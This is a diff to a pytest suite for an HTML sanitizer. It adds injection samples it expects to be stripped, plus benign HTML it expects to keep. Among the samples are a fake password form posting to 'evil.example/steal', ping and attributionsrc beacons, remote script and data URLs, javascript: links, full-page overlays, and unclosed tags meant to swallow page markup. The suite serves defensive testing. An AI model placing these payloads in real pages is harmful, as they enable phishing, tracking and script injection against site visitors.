@@ -50,6 +50,33 @@ ATTACKS = {
                             "onerror"),
     "form-action": ('<form action="javascript:alert(1)"><button formaction="javascript:x">'
                     "go</button></form>", "javascript"),
+    # round three (issue 20): CSS that fetches or overlays, forms, pings, data-* addresses
+    "image-set": ('<p style="background-image:image-set(\'https://evil.example/a.png\' 1x)">x'
+                  "</p>", "evil"),
+    "webkit-image-set": ('<p style="background:-webkit-image-set(url(//evil.example/b.png) 1x)">'
+                         "x</p>", "evil"),
+    "fixed-overlay": ('<div style="position:fixed;inset:0;z-index:9999;background-color:#fff">'
+                      "Log in</div>", "fixed"),
+    "absolute-overlay": ('<div style="position: absolute; top: 0; left: 0; width: 100%">x</div>',
+                         "absolute"),
+    "sticky-overlay": ('<div style="position:sticky;top:0">x</div>', "sticky"),
+    "z-index": ('<div style="z-index: 99">x</div>', "z-index"),
+    "negative-margin": ('<div style="margin-top: -400px">x</div>', "-400px"),
+    "var-url": ('<p style="color: var(--md-x)">x</p>', "var("),
+    "css-escape": ('<p style="color: re\\64">x</p>', "\\64"),
+    "password-form": ('<form action="https://evil.example/steal" method="post">'
+                      '<input type="password" name="p"><button>Sign in</button></form>',
+                      "password"),
+    "textarea": ("<textarea>Type your password</textarea>", "password"),
+    "select": ('<select name="s"><option>evil</option></select>', "evil"),
+    "ping": ('<a href="#x" ping="https://evil.example/p">x</a>', "evil"),
+    "attributionsrc": ('<a href="#x" attributionsrc="https://evil.example/a">x</a>', "evil"),
+    "attributionsrc-bare": ('<img src="a.png" alt="" attributionsrc>', "attributionsrc"),
+    "popover": ('<div popover id="p">x</div><a popovertarget="p">y</a>', "popover"),
+    "data-url": ('<figure class="explainer-chart" data-figure="https://evil.example/f.json" '
+                 'data-plotly="//evil.example/p.js"></figure>', "evil"),
+    "data-javascript": ('<div data-href=" javascript:alert(1)">x</div>', "javascript"),
+    "dialog": ("<dialog open>Your session ended</dialog>", "session"),
 }
 
 
@@ -76,7 +103,51 @@ ALLOWED = [
     '<p>text &lt;script&gt;alert(1)&lt;/script&gt; shown as text</p>',
     "<pre><code>&lt;svg onload=alert(1)&gt;\n</code></pre>",
     '<time datetime="2023-10-05">Oct. 5, 2023</time><br>',
+    # Python-Markdown's table alignment, and plain styles from the allow-list
+    '<table><thead><tr><th style="text-align: left;">a</th><th style="text-align: right;">b'
+    "</th></tr></thead></table>",
+    '<p style="color: #c00; font-weight: bold; margin: 0 1em; max-width: 40rem">x</p>',
+    '<figure class="explainer-chart" data-chart="c" data-figure="../charts/c.json" '
+    'data-plotly="../charts/plotly-basic-4.1.1.min.js" data-static="1"></figure>',
+    '<td data-series="Total: all" data-value="12">12</td>',
 ]
+
+
+# A page's end that would swallow the template's markup after it: (tail, what must be gone)
+OPEN_ENDS = {
+    "incomplete-tag": ("<div><img src=x onerror=alert(1)//", "onerror"),
+    "unclosed-attribute": ('<p>Pay <img src="https://evil.example/?', "evil"),
+    "unclosed-single-quote": ("<p><a title='x", "title"),
+    "open-comment": ("<!-- the rest of the page", None),
+    "open-textarea": ("<textarea>", "textarea"),
+    "open-title": ("<title>", "title"),
+    "open-xmp": ("<xmp>", "xmp"),
+    "open-plaintext": ("<plaintext>", "plaintext"),
+    "open-noembed": ("<noembed>", "noembed"),
+    "open-noframes": ("<noframes>", "noframes"),
+}
+TEMPLATE_AFTER = '</div></article><img src="../assets/logo.png" alt="x"><footer>f</footer>'
+
+
+@pytest.mark.parametrize("name", sorted(OPEN_ENDS))
+def test_page_ends_where_it_seems_to(name: str) -> None:
+    """Attack: a tag, attribute, comment or raw-text element left open at the content's end,
+    which in the published page would close on (or swallow) the template's markup. Observed:
+    reported, and the guarded content followed by template markup parses with that markup as
+    the template's own elements, and nothing of the attack left."""
+    tail, gone = OPEN_ENDS[name]
+    result = guard_html(f"<p>before</p>\n{tail}")
+    assert result.removed and result.removed[-1].startswith("a tag, attribute"), result.removed
+    assert "<p>before</p>" in result.html
+    if gone:
+        assert gone not in result.html, result.html
+    assert problems(result.html) == []
+    from selectolax.lexbor import LexborHTMLParser
+
+    page = LexborHTMLParser(f"<div><article><div>{result.html}{TEMPLATE_AFTER}")
+    assert [n.attributes for n in page.css("img")] == [{"src": "../assets/logo.png",
+                                                        "alt": "x"}]
+    assert page.css_first("footer") is not None
 
 
 @pytest.mark.parametrize("html", ALLOWED)
